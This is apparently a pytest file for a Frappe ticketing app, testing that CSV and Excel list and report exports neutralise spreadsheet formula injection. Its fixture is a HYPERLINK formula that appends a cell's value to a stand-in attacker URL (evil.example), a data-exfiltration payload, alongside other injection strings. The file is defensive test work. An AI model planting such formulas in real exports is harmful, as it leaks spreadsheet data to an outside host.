"""What a partner writes is no formula in the spreadsheet of who exports a list."""

import csv
import json
from io import BytesIO, StringIO
from typing import Any

import pytest

from sla_id.neutralise import is_formula, neutralise_csv
from tests.app import world
from tests.app.conftest import Clockwork

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"klik")'


@pytest.mark.parametrize(
	"text", ["=1+1", "+1+cmd", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1", "-", "=", FORMULA]
)
def test_what_a_spreadsheet_runs(text: str) -> None:
	assert is_formula(text)


@pytest.mark.parametrize("text", ["", "Sistem", "-5", "+62812", "-1.5", "-5%", "1-2", "a=1", "'=1", "5"])
def test_what_it_does_not(text: str) -> None:
	assert not is_formula(text)


@pytest.mark.parametrize("delimiter", [",", ";", "|", "\t", "^"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_ALL, csv.QUOTE_MINIMAL, csv.QUOTE_NONNUMERIC])
def test_a_csv_keeps_everything_else(delimiter: str, quoting: int) -> None:
	rows: list[list[Any]] = [
		["Sr", "Subjek", "Jumlah"],
		[1, FORMULA, -5],
		[2, 'Kata "kutip", koma; titik | koma', 3.5],
		[3, "dua\nbaris =1", -0.5],
		[4, "=satu\n=dua", 0],
		[5, "", ""],
		[6, "@nama", "-3"],
	]
	held = StringIO()
	csv.writer(held, delimiter=delimiter, quoting=quoting).writerows(rows)
	read = list(
		csv.reader(StringIO(neutralise_csv(held.getvalue(), delimiter), newline=""), delimiter=delimiter)
	)
	expected = [[f"'{cell}" if str(cell)[:1] in "=@" and cell else str(cell) for cell in row] for row in rows]
	assert read == expected


def export(site: Any, cmd: str, user: str = world.LEAD, **form: Any) -> tuple[str, bytes]:
	"""What a person downloads: name and content. As Frappe's handler serves it."""
	from frappe.handler import execute_cmd
	from werkzeug.test import EnvironBuilder
	from werkzeug.wrappers import Request

	site.local.request = Request(EnvironBuilder(method="POST").get_environ())
	site.set_user(user)
	site.local.form_dict = site._dict({"cmd": cmd, **form})
	site.local.response = site._dict(docs=[])
	try:
		execute_cmd(cmd)
		return str(site.local.response.filename), site.local.response.filecontent
	finally:
		del site.local.request
		site.set_user("Administrator")
		site.local.form_dict = site._dict()


def listed(doctype: str, kind: str, **more: Any) -> dict[str, Any]:
	fields = json.dumps([f"`tab{doctype}`.`name`", f"`tab{doctype}`.`subject`"])
	return {
		"doctype": doctype,
		"fields": fields,
		"filters": "[]",
		"file_format_type": kind,
		"title": "Daftar",
		**more,
	}


@pytest.fixture(autouse=True)
def ticket(clockwork: Clockwork, site: Any, host_name: str) -> Any:
	clockwork.at("2026-03-18 08:00")
	return world.ticket(host_name, sla_id_priority="P1", subject=FORMULA)


LIST = "frappe.desk.reportview.export_query"


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_list_as_csv(delimiter: str, site: Any) -> None:
	name, content = export(site, LIST, **listed("SLA Ticket", "CSV", csv_delimiter=delimiter))
	assert name.endswith(".csv")
	rows = list(csv.reader(StringIO(content.decode()), delimiter=delimiter))
	assert any(cell == f"'{FORMULA}" for row in rows for cell in row)
	assert not any(is_formula(cell) for row in rows for cell in row)


def test_a_list_as_a_workbook(site: Any) -> None:
	from openpyxl import load_workbook

	_name, content = export(site, LIST, **listed("SLA Ticket", "Excel"))
	cells = [cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row]
	assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)
	assert not any(cell.data_type == "f" for cell in cells)


def test_who_may_not_export_still_may_not(site: Any) -> None:
	with pytest.raises(site.PermissionError):
		export(site, LIST, user=world.PARTNER_USER, **listed("SLA Ticket", "CSV"))


def test_what_isnt_ours_is_frappes(site: Any, ticket: Any) -> None:
	"""A host's list comes out as Frappe writes it."""
	_name, content = export(site, LIST, user="Administrator", **listed(ticket.doctype, "CSV"))
	assert FORMULA in {cell for row in csv.reader(StringIO(content.decode())) for cell in row}


def test_a_report(site: Any) -> None:
	service = site.get_all("SLA Service", pluck="name", limit=1)[0]
	site.db.set_value(
		"SLA Service", service, {"service_name": FORMULA, "service_name_en": FORMULA}, update_modified=False
	)
	form = {"report_name": "SLA Service Coverage", "filters": "{}", "file_format_type": "CSV"}
	form["visible_idx"] = json.dumps(list(range(500)))
	name, content = export(site, "frappe.desk.query_report.export_query", **form)
	cells = [cell for row in csv.reader(StringIO(content.decode())) for cell in row]
	assert name.endswith(".csv")
	assert any(FORMULA in cell for cell in cells)
	assert not any(is_formula(cell) for cell in cells)


@pytest.mark.parametrize("cmd", [LIST, "frappe.desk.query_report.export_query"])
@pytest.mark.parametrize(
	"form", [{}, {"doctype": "None such", "report_name": "None such"}, {"doctype": "{", "report_name": "{"}]
)
def test_a_list_of_nothing_is_refused(cmd: str, form: dict[str, Any], site: Any) -> None:
	with pytest.raises(Exception) as caught:
		export(site, cmd, **{**listed("x", "CSV"), **form} if form else {})
	assert getattr(caught.value, "http_status_code", 500) < 500, caught.value
